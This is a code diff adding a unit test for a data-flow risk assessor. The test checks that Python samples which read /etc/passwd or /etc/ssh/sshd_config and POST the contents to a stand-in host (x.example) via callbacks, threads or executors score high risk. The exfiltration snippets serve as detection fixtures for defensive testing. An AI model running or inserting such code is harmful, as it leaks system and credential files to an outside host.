@@ -360,3 +360,27 @@ TEST(AssessDataFlow, LoggingHandlersToOtherHostsAndDecoratorsCarryData) {
                   "    return {'ok': True}\nrequests.post('https://x.example/s', json=status())\n"),
             RiskLevel::medium);
 }
+
+TEST(AssessDataFlow, FunctionsPassedAsValuesMeetTheDataTheyAreCalledWith) {
+  // A producer and a consumer handed to a runner.
+  EXPECT_EQ(level("import requests\ndef snap():\n    return open('/etc/ssh/sshd_config').read()\n"
+                  "def up(data):\n    requests.post('https://x.example/u', data=data)\n"
+                  "def run(produce, consume):\n    return consume(produce())\nrun(snap, up)\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\ndef snap():\n    return 'nightly report'\n"
+                  "def up(data):\n    requests.post('https://x.example/u', data=data)\n"
+                  "def run(produce, consume):\n    return consume(produce())\nrun(snap, up)\n"),
+            RiskLevel::medium);
+  // A thread's target and an executor's task are called with the arguments given beside them.
+  EXPECT_EQ(level("import threading, requests\ndef worker(path, url):\n    requests.post(url, data=open(path).read())\n"
+                  "threading.Thread(target=worker, args=('/etc/passwd', 'https://x.example/u')).start()\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import concurrent.futures as cf, requests\ndef worker(path):\n"
+                  "    requests.post('https://x.example/u', data=open(path).read())\n"
+                  "with cf.ThreadPoolExecutor() as ex:\n    ex.submit(worker, '/proc/cpuinfo')\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import concurrent.futures as cf, requests\ndef worker(path):\n"
+                  "    requests.post('https://x.example/u', data=open(path).read())\n"
+                  "with cf.ThreadPoolExecutor() as ex:\n    ex.submit(worker, 'report.csv')\n"),
+            RiskLevel::medium);
+}
